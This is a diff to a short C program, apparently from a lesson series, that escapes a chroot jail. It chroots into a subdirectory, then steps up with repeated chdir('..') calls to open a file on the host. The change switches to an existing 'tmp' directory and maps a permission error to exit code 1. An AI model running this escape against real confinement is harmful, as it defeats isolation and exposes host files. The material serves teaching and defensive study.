@@ -2,10 +2,9 @@
  * Usage: escape-chroot PATH.  Prints the host's file; ends with 1 if there is
  * none, because "up" led nowhere.  See chroot(2), under NOTES: "This call does
  * not change the current working directory".  Closed by lesson 03. */
+#include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
-#include <stdlib.h>
-#include <sys/stat.h>
 #include <unistd.h>
 
 /* ".." stops at the root directory, and only there.  A second chroot moves the
@@ -13,10 +12,7 @@
 static int
 escape(void)
 {
-    char below[] = "/tmp/below.XXXXXX";
-
-    if (chdir("/") == -1 || !mkdtemp(below) || chroot(below) == -1
-        || rmdir(below + 1) == -1)
+    if (chdir("/") == -1 || chroot("tmp") == -1)
         return -1;
     for (int level = 0; level < 64; level++)
         if (chdir("..") == -1)
@@ -32,8 +28,9 @@ main(int argc, char **argv)
     if (argc != 2)
         return 2;
     if (escape() == -1) {
+        int result = errno == EPERM ? 1 : 2;
         perror("escape");
-        return 2;
+        return result;
     }
     int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
     if (fd == -1) {
